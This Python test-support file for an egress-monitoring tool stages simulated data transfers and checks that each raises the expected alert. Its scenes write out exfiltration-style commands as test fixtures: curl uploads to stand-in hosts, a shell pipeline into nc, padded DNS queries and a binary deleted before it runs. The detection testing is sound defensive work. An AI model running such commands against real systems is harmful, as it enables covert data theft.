"""tests/support/sender_scenes.py - who sends, and to what name: scenes with the programs that people use.

SPDX-License-Identifier: Apache-2.0

prepare(site) starts what they talk to in the world, and adds a policy that allows one executable, by path and
hash, to send to one name. Everything else that leaves is a finding; each scene has a remote address of its own.
"""
import hashlib
import os
import re
import shutil
import socket
import struct
import subprocess
import time
from pathlib import Path

from scenes import ALERT_S, Result
from world import PYTHON, ROOT, SINK, SUPPORT, UDP_SINK, run, wait_for

RULE = "any-sender"
ALLOWED, OTHER = "updates.example.org", "files.example.net"
EDGE, RESOLVER = "8.8.8.10", "5.9.10.20"  # in the US; in Germany
# The name server whose answers open allow entries: the scenes' own, not the host's.
SETTINGS = f"names: {{resolvers: [{RESOLVER}]}}\n"
HTTPS, SSH = 9443, 22
BODY = 64 << 10
CN = "114.114.7."
POLICY = """\
policy: egresswatch/v1
allow:
  - id: nightly-copy
    to: {{domain: {allowed}}}
    from: {{executable: "{tool}", sha256: {sha256}}}
    owner: backup@example.org
    reason: Nightly copy
    legal_basis: art-46-scc
    ticket: SEC-102
    expires: 2036-12-31
rules:
  - id: any-sender
    title: Anything that is not allowed
    level: high
    when: {{region: outside, allowed: false}}
    window: {{sum: bytes_out, over: 10m, by: [remote], at_least: 1 kB}}
    suppress: {{for: 1h, by: [remote]}}
"""
UNIT = """\
[Unit]
DefaultDependencies=no
SuccessAction=exit-force
FailureAction=exit-force
[Service]
Type=oneshot
ExecStart={command}
"""


def sha256(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def tool(site):
    return site.dir / "nightly-copy"


def upload(site, program, remote, name, *words):
    """A PUT of BODY bytes by curl, or by what is a copy of it."""
    return [program, "-sk", "--max-time", "20", "--resolve", f"{name}:{HTTPS}:{remote}", "-T", site.dir / "body", *words,
            f"https://{name}:{HTTPS}/copy"]


def prepare(site):
    (site.dir / "body").write_bytes(bytes(BODY))
    run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
        "-subj", f"/CN={ALLOWED}", "-keyout", site.dir / "https.key", "-out", site.dir / "https.pem")
    run("dropbearkey", "-t", "ed25519", "-f", site.dir / "ssh.key")
    names = {"names": [PYTHON, SUPPORT / "nameserver.py", RESOLVER, f"{ALLOWED}={EDGE}"],
             "names-cn": [PYTHON, SUPPORT / "nameserver.py", f"{CN}32"],
             "https": [PYTHON, SUPPORT / "https_server.py", HTTPS, site.dir / "https.pem", site.dir / "https.key"]}
    for log, words in names.items():
        site.start("world", *words, log=f"{log}.log")
    site.start("world", "dropbear", "-F", "-E", "-r", site.dir / "ssh.key", "-p", SSH, "-P", site.dir / "dropbear.pid",
               log="dropbear.log")
    for log in names:
        wait_for(log, 10, lambda log=log: "ready" in (site.dir / f"{log}.log").read_text())
    wait_for("the SSH server", 10, lambda: f":{SSH} " in site.run_in("world", "ss", "-lntH").stdout)
    (site.dir / "resolv.conf").write_text(f"nameserver {RESOLVER}\noptions attempts:1 timeout:5\n")
    shutil.copy("/usr/bin/curl", tool(site))
    before = site.status()["policy"]["content_hash"]
    policy = site.policy_dir / "20-senders.yaml"
    policy.with_suffix(".new").write_text(POLICY.format(allowed=ALLOWED, tool=tool(site), sha256=sha256(tool(site))))
    policy.with_suffix(".new").rename(policy)
    wait_for("the policy", 10, lambda: site.status()["policy"]["content_hash"] != before)


def seen_of(alert):
    name = alert.get("destination.domain")
    return f"{alert.sender}, to {name or alert.remote} ({alert.get('network.protocol') or alert.transport})"


def named(site, number, title, remote, wanted, act):
    """One alert for `remote`, in which every field of `wanted` is that value, or a match of that pattern."""
    mark = len(site.alerts.findings)
    wanted = dict(wanted, **(act() or {}))
    alerts = site.wait_alerts(mark, lambda a: a.rule == RULE and a.remote == remote)
    wrong = [f"{field} is {alerts[0].get(field)!r}, not {value!r}" for field, value in wanted.items()
             if not (value.search(str(alerts[0].get(field))) if isinstance(value, re.Pattern)
                     else alerts[0].get(field) == value)] if alerts else [f"no alert within {ALERT_S} s"]
    if len(alerts) > 1:
        wrong.append(f"{len(alerts)} alerts")
    return Result(number, title, ", ".join(str(value) for value in wanted.values() if not isinstance(value, re.Pattern)),
                  "; ".join(wrong) or seen_of(alerts[0]), not wrong, alerts)


def program(path, **more):
    """What an alert has to say of a program of this system."""
    real = os.path.realpath(path)
    fields = {"process.executable": real, "process.hash.sha256": sha256(real), "user.name": "root"}
    return dict(fields, **{name.replace("__", "."): value for name, value in more.items()})


def scene_allowed_program(site):
    """the one program that may, to the one name that it may"""
    mark = len(site.alerts.findings)
    words = [str(w) for w in upload(site, tool(site), EDGE, ALLOWED)]
    # By a resolver: the name is known from the first byte on.
    words = words[:4] + words[6:]
    site.run_in("host", "unshare", "-m", "sh", "-c", 'mount --bind "$0" /etc/resolv.conf && exec "$@"',
                site.dir / "resolv.conf", *words)
    record = wait_for("the flow's record", 20, lambda: [
        r for r in site.journal("flow") if r["flow"]["remote"] == EDGE and r["ended"]])[0]
    alerts = [a for a in site.alerts.since(mark) if a.remote == EDGE]
    said = (record["decision"]["allow_id"], record["flow"]["name"], record["process"]["executable"],
            record["process"]["sha256"])
    return Result("8a", "an executable that may, by path and hash, to the name that it may send to",
                  "no alert; the flow is recorded as allowed, with its name and its sender",
                  f"{len(alerts)} alerts; allowed by {said[0]}, to {said[1]} by {said[2]}",
                  not alerts and said == ("nightly-copy", ALLOWED, str(tool(site)), sha256(tool(site))), alerts)


def scene_other_program(site):
    """the same transfer by another program"""
    remote = "8.8.8.11"
    return named(site, "8b", "the same transfer by another program", remote,
                 program("/usr/bin/curl", event__reason=re.compile("executable"), destination__domain=ALLOWED),
                 lambda: site.run_in("host", *upload(site, "/usr/bin/curl", remote, ALLOWED)) and None)


def scene_other_hash(site):
    """the same path with another hash"""
    remote, other = "8.8.8.12", site.dir / "other"

    def act():
        shutil.copy(tool(site), other)
        with open(other, "ab") as file:
            file.write(b"x")
        before = tool(site).read_bytes()
        other.rename(tool(site))
        # A file that changed within a tick of the clock (10 ms at the most) before it is used has no hash.
        wait_for("the file to be older", 5, lambda: time.time() > tool(site).stat().st_ctime + 0.02)
        try:
            site.run_in("host", *upload(site, tool(site), remote, ALLOWED))
            return {"process.hash.sha256": sha256(tool(site))}
        finally:
            other.write_bytes(before)
            other.chmod(0o755)
            other.rename(tool(site))
    return named(site, "8c", "the same path with another file", remote,
                 {"process.executable": str(tool(site)), "event.reason": re.compile("sha256"), "destination.domain": ALLOWED},
                 act)


def scene_co_tenant(site):
    """the allowed program to another name at the allowed address"""
    mark = len(site.alerts.findings)
    result = named(site, "8d", "the allowed program to a co-tenant of the allowed address", EDGE,
                   {"process.executable": str(tool(site)), "destination.domain": OTHER,
                    "event.reason": re.compile(f"asks for {re.escape(OTHER)}")},
                   lambda: site.run_in("host", *upload(site, tool(site), EDGE, OTHER)) and None)
    told = site.wait_alerts(mark, lambda a: a.rule == "egresswatch/name-contradiction")
    result.passed = result.passed and len(told) == 1
    result.seen += f"; and {len(told)} finding that the names contradict each other"
    return result


def scene_dig(site):
    """dig, to a name server abroad"""
    remote = f"{CN}32"
    return named(site, "8e", "dig, to a name server abroad", remote,
                 program("/usr/bin/dig", network__protocol="dns"),
                 lambda: site.run_in("host", "dig", "+tries=1", f"@{remote}",
                                     *(f"{'x' * 40}{i}.example.cn" for i in range(16))) and None)


def scene_ssh(site):
    """ssh"""
    remote = f"{CN}33"
    return named(site, "8f", "ssh", remote, program("/usr/bin/ssh", network__protocol="ssh"),
                 lambda: site.run_in("host", "ssh", "-F", "none", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o",
                                     "UserKnownHostsFile=/dev/null", f"nobody@{remote}", check=False) and None)


def scene_pipeline(site):
    """a pipeline of a shell, into nc"""
    remote = f"{CN}34"

    def act():
        shell = subprocess.Popen(site.inside("host", "bash", "-c",
                                             f"head -c 40000 /dev/zero | gzip -1 -c | cat - {site.dir}/body | "
                                             f"nc -N {remote} {SINK}; true"))
        shell.wait(20)
        return {"process.parent.pid": shell.pid}
    return named(site, "8g", "a shell's pipeline that ends in nc", remote, program("/bin/nc"), act)


def scene_deleted(site):
    """a program that is no longer on the disk"""
    remote, gone = f"{CN}35", site.dir / "gone"

    def act():
        shutil.copy("/usr/bin/curl", gone)
        with open(gone, "ab") as file:
            file.write(b"x")
        wanted = sha256(gone)
        words = upload(site, "/proc/self/fd/9", remote, "drop.example.cn")
        site.run_in("host", "bash", "-c", 'exec 9<"$0"; rm "$0"; exec "$@"', gone, *words)
        return {"process.hash.sha256": wanted}
    return named(site, "8h", "a program that was deleted before it ran", remote,
                 {"process.executable": str(gone), "egresswatch.process.executable_deleted": True,
                  "destination.domain": "drop.example.cn", "network.protocol": "tls"}, act)


def first_datagrams(capture, client, count):
    """Payloads of the first datagrams that `client` sends: Ethernet, IPv4 without options, UDP."""
    data, at, out = capture.read_bytes(), 24, []
    while len(out) < count:
        size = struct.unpack_from("<I", data, at + 8)[0]
        frame, at = data[at + 16:at + 16 + size], at + 16 + size
        if frame[26:30] == socket.inet_aton(client):
            out.append(frame[42:])
    return out


def scene_quic(site):
    """a QUIC client in Python"""
    remote = f"{CN}36"
    # What Chrome once sent: no package of Debian 12 has a client that speaks QUIC.
    hello = first_datagrams(ROOT / "tests/corpus/captures/quic-v1-chrome.pcap", "82.239.54.117", 2)
    code = ("import socket,sys\ns = socket.socket(2, 2)\ns.connect((sys.argv[1], int(sys.argv[2])))\n"
            "for word in sys.argv[3:]: s.send(bytes.fromhex(word))")
    return named(site, "8i", "Python sends Chrome's first QUIC packets: the name is in an encrypted ClientHello", remote,
                 program(PYTHON, network__protocol="quic", destination__domain="api.cirrus-ci.com"),
                 lambda: site.run_in("host", PYTHON, "-c", code, remote, UDP_SINK, *(word.hex() for word in hello)) and None)


def scene_unit(site):
    """a unit of a systemd that runs in a container"""
    remote = f"{CN}37"

    def act():
        unit = site.dir / "nightly.service"
        words = " ".join(map(str, upload(site, "/usr/bin/curl", remote, "nightly.example.cn")))
        unit.write_text(UNIT.format(command=words))
        run("systemd-nspawn", "--quiet", "-D", "/", "--volatile=yes", "--register=no", "--keep-unit",
            f"--network-namespace-path=/run/netns/{site.ns('host')}", f"--machine={site.prefix}",
            f"--bind-ro={unit}:/etc/systemd/system/nightly.service", f"--bind-ro={site.dir}", "-b", "--",
            "--unit=nightly.service", timeout=60,
            env=dict(os.environ, SYSTEMD_NSPAWN_UNIFIED_HIERARCHY="1", SYSTEMD_NSPAWN_API_VFS_WRITABLE="yes"))
        remove_cgroups()
    return named(site, "8j", "a unit of the systemd of a container", remote,
                 program("/usr/bin/curl", egresswatch__process__inner_unit="nightly.service",
                         destination__domain="nightly.example.cn"), act)


def remove_cgroups():
    """systemd-nspawn leaves its control groups behind where nobody manages them."""
    root = next(line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines() if " - cgroup2 " in line)
    for name in ("payload", "supervisor"):
        for place, _, _ in os.walk(Path(root) / name, topdown=False):
            os.rmdir(place)


SENDER_SCENES = [scene_allowed_program, scene_other_program, scene_other_hash, scene_co_tenant, scene_dig, scene_ssh,
                 scene_pipeline, scene_deleted, scene_quic, scene_unit]
